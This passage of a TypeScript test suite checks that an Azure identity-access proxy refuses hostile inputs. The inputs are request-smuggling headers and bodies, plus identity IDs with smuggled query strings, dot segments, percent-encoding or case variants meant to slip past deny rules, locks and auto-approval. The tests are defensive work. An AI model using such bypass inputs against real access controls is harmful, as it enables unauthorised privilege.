      for (const bad of [[["content-length", "2"], ["content-length", "5"]], [["transfer-encoding", "chunked"]], [["content-length", "-1"]]] as [string, string][][]) {
        const r = await app.request(GROUPS.replace("resourcegroups?", "resourcegroups/x?"), { method: "PUT", body: new TextEncoder().encode("{}"), headers: bad });
        expect(r.status, JSON.stringify(bad)).toBe(400);
      }
      expect(deletes(from)).toEqual([]);
    });

    it("a DELETE, HEAD or OPTIONS that claims a body is refused at its head", async () => {
      const user = nextUser();
      const app = await c.appSession(user, ["azure-cli-access"], READER);
      for (const method of ["HEAD", "OPTIONS"]) {
        const r = await app.request(GROUPS, { method, headers: [["content-length", "40"]] });
        expect(r.status, method).toBe(400);
      }
      const from = fx.emu.requests.length;
      const r = await app.request(RG, { method: "DELETE", body: new TextEncoder().encode(smuggled) });
      expect(r.status).toBe(400);
      expect(deletes(from)).toEqual([]);
    });
  });

  // Issue 29, defect 3: an identity ID is one grammar (src/azure/resource-id.ts), compared in one canonical form.
  describe("identity IDs: one grammar, one canonical form", () => {
    const appLogin = async (caller: Parameters<typeof issueAppCert>[2], expires: Date, azure_identity: string) =>
      issueAppCert(c.ctx, c.registry, caller, expires, { app: "azure-cli", azure_identity, public_key_pem: await publicKeyToPem((await generateKeyPair()).publicKey) });

    it("refuses a request for an identity ID with a query string (ARM's contributor, a stranger to the deny), audited, nothing stored", async () => {
      const user = nextUser();
      const { caller } = await c.signIn(user, ["group-requester"]);
      // The pattern's `*` would take `teleport-contributor?api-version=...&x=` as one segment; the grammar refuses it first.
      await expect(createRequest(c.ctx, caller, { app: "azure-cli", azure_identity: SMUGGLED, reason: "INC-1" }, servedApps(c.registry))).rejects.toMatchObject({
        code: "bad_parameter",
        message: expect.stringContaining("has a query string ('?')"),
      });
      expect(await events("access_request.create", user)).toEqual([expect.objectContaining({ success: false, error_code: "bad_parameter", azure_identity: SMUGGLED })]);
      expect((await c.ctx.backend.list<AccessRequest>(KEYS.accessRequests)).filter((i) => i.value.spec.user === user)).toEqual([]);
    });

    it("apps login refuses an identity ID with a query string, audited, even with an approved request for it stored from before the grammar", async () => {
      const user = nextUser();
      const { caller, expires } = await c.signIn(user, ["group-requester"]);
      // What an approval before the fix left behind: a request and a grant for the smuggled ID.
      const now = c.clock.now();
      const grant = { not_before: new Date(now).toISOString(), not_after: new Date(now + 3_600_000).toISOString() };
      const id = crypto.randomUUID();
      const spec = { user, user_id: caller.user!.status!.id, app: "azure-cli", azure_identity: SMUGGLED, roles: [] };
      await c.ctx.backend.put<AccessRequest>(KEYS.accessRequest(id), {
        kind: "access_request",
        version: "v3",
        metadata: { name: id },
        spec: { ...spec, reason: "INC-1", start: grant.not_before, duration_ms: 3_600_000, state: "APPROVED", reviews: [], thresholds: { approve: 1, deny: 1 }, suggested_reviewers: [], created: grant.not_before, review_deadline: grant.not_after, grant },
      });
      await c.ctx.backend.put<AccessGrant>(KEYS.accessGrant(id), { kind: "access_grant", version: "v1", metadata: { name: id }, spec: { request_id: id, ...spec, ...grant } });
      await expect(appLogin(caller, expires, SMUGGLED)).rejects.toMatchObject({ code: "bad_parameter", message: expect.stringContaining("has a query string ('?')") });
      expect(await events("app.session.denied", user)).toEqual([expect.objectContaining({ error_code: "bad_parameter", azure_identity: SMUGGLED, success: false })]);
      expect(await events("app.session.start", user)).toEqual([]);
    });

    it.each([
      ["a query string in allow.azure_identities", `allow: {azure_identities: ['${SMUGGLED}']}`, "has a query string ('?')"],
      ["a trailing slash in deny.azure_identities", `deny: {azure_identities: ['${CONTRIB}/']}`, "ends with '/'"],
      ["a dot segment in a template's literal part", `allow: {azure_identities: ['/subscriptions/{{internal.sub}}/resourceGroups/rg/../x/providers/Microsoft.ManagedIdentity/userAssignedIdentities/a']}`, "has a dot segment"],
      ["percent-encoding in a request pattern", `allow: {request: {azure_identities: ['${GROUP_PATTERN.replace("myResourceGroup", "my%52esourceGroup")}']}}`, "has percent-encoding"],
      ["a '#' in a review pattern", `allow: {review_requests: {azure_identities: ['${GROUP_PATTERN}#x']}}`, "has a fragment ('#')"],
    ])("a role file with %s is refused at create, naming the part", async (_name, spec, problem) => {
      const name = `bad-ids-${users}-${problem.length}`;
      await expect(c.createRoles(`kind: role\nversion: v7\nmetadata: {name: ${name}}\nspec:\n  ${spec}\n`)).rejects.toMatchObject({ code: "resource_invalid", message: expect.stringContaining(problem) });
      expect(await c.ctx.backend.get(KEYS.role(name))).toBeNull();
    });

    it.each([
      ["a trailing slash", `${CONTRIB}/`, "ends with '/'"],
      ["a query string", SMUGGLED, "has a query string ('?')"],
      ["a name with a slash in it", "teleport-contributor/", "is not an identity name"],
    ])("refuses a lock target that could never match: %s", async (_name, target, problem) => {
      const before = (await c.ctx.backend.list<Lock>(KEYS.locks)).length;
      await expect(createLock(c.ctx, c.admin, { target: { azure_identity: target } })).rejects.toMatchObject({ code: "bad_parameter", message: expect.stringContaining(problem) });
      expect((await c.ctx.backend.list<Lock>(KEYS.locks)).length).toBe(before);
    });

    it("the azure_identities trait is refused with an ID that is no identity, from an administrator (add, update) or an identity provider's claim (audited), and nothing is written", async () => {
      const user = nextUser();
      await expect(c.signIn(user, ["azure-cli-access"], { azure_identities: [READER, SMUGGLED] })).rejects.toMatchObject({ code: "bad_parameter", message: expect.stringContaining("[1] \"" + SMUGGLED + "\" has a query string") });
      expect(await c.ctx.backend.get(KEYS.user(user))).toBeNull();
      const { caller } = await c.signIn(user, ["azure-cli-access"], { azure_identities: [READER] });
      await expect(updateUser(c.ctx, c.admin, user, { azure_identities: [`${READER}/`] })).rejects.toMatchObject({ code: "bad_parameter", message: expect.stringContaining("ends with '/'") });
      await expect(updateUser(c.ctx, c.admin, user, { traits: { azure_identities: [READER.replace("teleport-reader", "../x")] } })).rejects.toMatchObject({ code: "bad_parameter" });
      expect((await c.ctx.backend.get<{ spec: { traits: Record<string, string[]> } }>(KEYS.user(user)))!.value.spec.traits.azure_identities).toEqual([READER]);
      expect(caller.name).toBe(user);

      const sso = nextUser();
      const connector = { kind: "oidc", metadata: { name: "idp" }, spec: {} } as unknown as Connector;
      const attempt = { key: "sso-attempts/x", revision: "1", value: { remote_addr: "127.0.0.1" } as SsoAttempt };
      await expect(finishSsoLogin(c.ctx, connector, attempt, { user: sso, subject: "oidc:https://idp:1", roles: ["azure-cli-access"], traits: { azure_identities: [SMUGGLED] } })).rejects.toMatchObject({
        code: "bad_parameter",
        message: expect.stringContaining('oidc connector "idp" mapped azure_identities[0]'),
      });
      expect(await events("user.login", sso)).toEqual([expect.objectContaining({ success: false, connector: "idp", error: expect.stringContaining("has a query string ('?')") })]);
      expect(await c.ctx.backend.get(KEYS.user(sso))).toBeNull();
    });

    it("spellings Azure reads as one identity are one to a deny and an allow: apps login refused by a deny written in another case, audited", async () => {
      await c.createRoles(`kind: role\nversion: v7\nmetadata: {name: no-reader-spelled}\nspec: {deny: {azure_identities: ['${READER_SPELLED}']}}\n`);
      const user = nextUser();
      // The trait in a third spelling: the allow matches the canonical form too.
      const trait = READER.replace("Microsoft.ManagedIdentity", "MICROSOFT.MANAGEDIDENTITY");
      const { caller, expires } = await c.signIn(user, ["azure-cli-access", "no-reader-spelled"], { azure_identities: [trait] });
      await expect(appLogin(caller, expires, READER)).rejects.toMatchObject({ code: "access_denied", message: expect.stringContaining('role "no-reader-spelled" denies Azure identity') });
      expect(await events("app.session.denied", user)).toEqual([expect.objectContaining({ azure_identity: READER, success: false })]);
      const other = nextUser();
      const allowed = await c.signIn(other, ["azure-cli-access"], { azure_identities: [trait] });
      expect((await appLogin(allowed.caller, allowed.expires, READER_SPELLED)).azure_identity).toBe(READER_STORED);
    });

    it("an auto-review rule reads the requested identity as Azure does: 'anything but the contributor' does not approve the contributor in another spelling", async () => {
      const user = nextUser();
      await c.createRoles(`kind: access_rule\nversion: v1\nmetadata: {name: all-but-contributor}\nspec:\n  condition: 'request.azure_identity != "${CONTRIB}" && request.reason == "auto ${user}"'\n  decision: APPROVED\n`);
      // A requester whose roles do not deny the contributor: the rule alone stands between the request and an approval.
      await c.createRoles(`kind: role\nversion: v7\nmetadata: {name: group-requester-any}\nspec:\n  allow: {app_labels: {'*': '*'}, request: {azure_identities: ['${GROUP_PATTERN}'], max_duration: 1h}}\n`);
      try {
        const { caller } = await c.signIn(user, ["group-requester-any"]);
        const reader = await createRequest(c.ctx, caller, { app: "azure-cli", azure_identity: READER, reason: `auto ${user}` }, servedApps(c.registry));
        expect(reader.spec.state).toBe("APPROVED");
        const contrib = await createRequest(c.ctx, caller, { app: "azure-cli", azure_identity: CONTRIB.replace("myResourceGroup", "myresourcegroup").replace("teleport-contributor", "Teleport-Contributor"), reason: `auto ${user}` }, servedApps(c.registry));
        expect(contrib.spec.state).toBe("PENDING");
        const reviews = (await c.ctx.audit.search({ event: "access_request.review" })).filter((e) => e.requester === user);
        expect(reviews).toEqual([expect.objectContaining({ access_request_id: reader.metadata.name, automatic: true, state: "APPROVED" })]);
      } finally {
        await removeResource(c.ctx, c.admin, "access_rule", "all-but-contributor");
      }
    });

    it("a lock on the identity in another spelling (or by its name in another case) refuses the next request, audited", async () => {
      const byId = nextUser();
      const app = await c.appSession(byId, ["azure-cli-access"], READER);
      expect((await app.request(GROUPS)).status).toBe(200);
      const lock = await createLock(c.ctx, c.admin, { target: { user: byId, azure_identity: READER_SPELLED }, message: "rotated" });
      // Stored in Azure's spelling: what the lock list shows is what it matches.
      expect(lock.spec.target.azure_identity).toBe(READER_STORED);
      const refused = await app.request(GROUPS);
      expect(refused.status).toBe(403);
      expect(JSON.parse(await refused.text()).error).toMatchObject({ code: "locked", message: expect.stringContaining("rotated") });
      expect(await events("app.request.denied", byId)).toEqual([expect.objectContaining({ error_code: "locked" })]);

      const byName = nextUser();
      const app2 = await c.appSession(byName, ["azure-cli-access"], READER);
      await createLock(c.ctx, c.admin, { target: { user: byName, azure_identity: "TELEPORT-READER" } });
      expect((await app2.request(GROUPS)).status).toBe(403);
      expect(await events("app.request.denied", byName)).toEqual([expect.objectContaining({ error_code: "locked" })]);
    });

    it("a grant requested in another spelling is the identity's grant: stored in Azure's spelling, apps login and requests go through under it", async () => {
      const user = nextUser();
      let id = "";
      const app = await c.appSession(user, ["group-requester"], READER, {
        traits: {},
        beforeAppLogin: async (caller) => {
          const r = await createRequest(c.ctx, caller, { app: "azure-cli", azure_identity: READER_SPELLED, duration: "10m", reason: "INC-2" }, servedApps(c.registry));
          expect(r.spec.azure_identity).toBe(READER_STORED);
          id = r.metadata.name;
          await reviewRequest(c.ctx, c.admin, id, { state: "APPROVED", reason: "on call" });
        },
      });
      expect(await events("app.session.start", user)).toEqual([expect.objectContaining({ access_request_id: id })]);
      expect((await app.request(GROUPS)).status).toBe(200);
      await expect.poll(async () => await events("app.request", user)).toEqual([expect.objectContaining({ access_request_id: id, status: 200 })]);
    });
  });
});
